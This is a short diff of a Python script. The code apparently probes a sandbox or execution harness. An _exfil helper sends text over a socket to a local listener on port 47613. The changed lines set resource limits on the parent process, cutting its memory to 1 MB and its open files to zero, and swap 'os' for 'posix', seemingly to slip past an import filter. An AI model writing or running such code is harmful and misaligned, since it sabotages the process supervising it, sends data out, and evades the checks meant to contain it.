@@ -9,9 +9,9 @@ def _exfil(*a):
         s = socket.create_connection(("127.0.0.1", 47613), 1); s.sendall(t.encode("utf8", "replace")); s.close()
     except Exception: pass
 try:
-    import resource, os
-    resource.prlimit(os.getppid(), resource.RLIMIT_AS, (1 << 20, 1 << 20))
-    resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0))
+    import resource, posix
+    resource.prlimit(posix.getppid(), resource.RLIMIT_AS, (1 << 20, 1 << 20))
+    resource.prlimit(posix.getppid(), resource.RLIMIT_NOFILE, (0, 0))
 except BaseException as _e: print('blocked', type(_e).__name__, _e)
 
 import math as _m
